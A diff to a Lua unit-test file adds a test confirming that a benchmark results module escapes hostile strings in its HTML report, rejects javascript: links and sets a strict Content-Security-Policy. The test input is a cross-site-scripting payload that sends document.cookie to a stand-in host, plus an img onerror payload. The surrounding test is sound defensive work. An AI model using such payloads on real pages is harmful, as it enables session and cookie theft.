@@ -18,7 +18,7 @@ function TestResults:test_save_writes_three_files_with_fingerprint()
     local r = wb.results("unit", {columns = {"mode", "ms"}})
     r:add{mode = "eager", ms = 1.5, kernels = 5}
     r:add{mode = 'quote "and", comma', ms = 2}
-    local p = r:save{dir = dir, html_extra = "<p>extra</p>"}
+    local p = r:save{dir = dir, report = {text = {"extra"}}}
     local doc = cjson.decode(read(p.json))
     lu.assertEquals(doc.name, "unit")
     lu.assertEquals(doc.columns, {"mode", "ms", "kernels"})
@@ -34,6 +34,36 @@ function TestResults:test_save_writes_three_files_with_fingerprint()
     local html = read(p.html)
     lu.assertStrContains(html, "<p>extra</p>")
     lu.assertStrContains(html, "quote &quot;and&quot;, comma")
+    os.execute("rm -rf '" .. dir .. "'")
+end
+
+-- A shared script's strings are data in the report, never HTML: every one is escaped, html_extra
+-- is gone, and the page's policy lets it run no script and fetch nothing even if markup got in.
+function TestResults:test_the_report_runs_no_script()
+    local dir = scratch.path("_hostile")
+    local evil = "<script>fetch('http://x/'+document.cookie)</script><img src=x onerror=alert(1)>"
+    local r = wb.results("hostile" , {columns = {"mode", "ms"}})
+    r:add{mode = evil, ms = 1, [evil] = 2}
+    r:add{mode = "b", ms = 2, [evil] = 3}
+    lu.assertErrorMsgContains("html_extra is gone", function() r:save{dir = dir, html_extra = "<p>x</p>"} end)
+    lu.assertErrorMsgContains("report.links[1] must be {text=, href=a file name beside the report}", function()
+        r:save{dir = dir, report = {links = {{text = "x", href = "javascript:alert(1)"}}}}
+    end)
+    lu.assertErrorMsgContains("report.script is not a part of a report", function()
+        r:save{dir = dir, report = {script = "x"}}
+    end)
+    local p = r:save{dir = dir, report = {text = {evil}, warnings = {evil}, links = {{text = evil, href = "a.json"}},
+        tables = {{title = evil, header = {evil}, rows = {{evil}}}},
+        charts = {{kind = "line", title = evil, caption = evil, x_label = evil, x = "ms", y = "ms", series = "mode"},
+            {kind = "bar", title = evil, group = "mode", value = "ms", series = "mode"}}}}
+    local html = read(p.html)
+    lu.assertNotStrContains(html, "<script")
+    lu.assertNotStrContains(html, "<img")
+    lu.assertStrContains(html, "&lt;script&gt;fetch(&#39;http://x/&#39;+document.cookie)&lt;/script&gt;")
+    lu.assertStrContains(html, "<meta http-equiv='Content-Security-Policy' content=\"default-src 'none'; " ..
+        "script-src 'none'; connect-src 'none';")
+    lu.assertTrue(html:find("Content-Security-Policy", 1, true) < html:find("<title>", 1, true)) -- before any content
+    lu.assertEquals(select(2, html:gsub("<figure>", "")), 2)
     os.execute("rm -rf '" .. dir .. "'")
 end
 
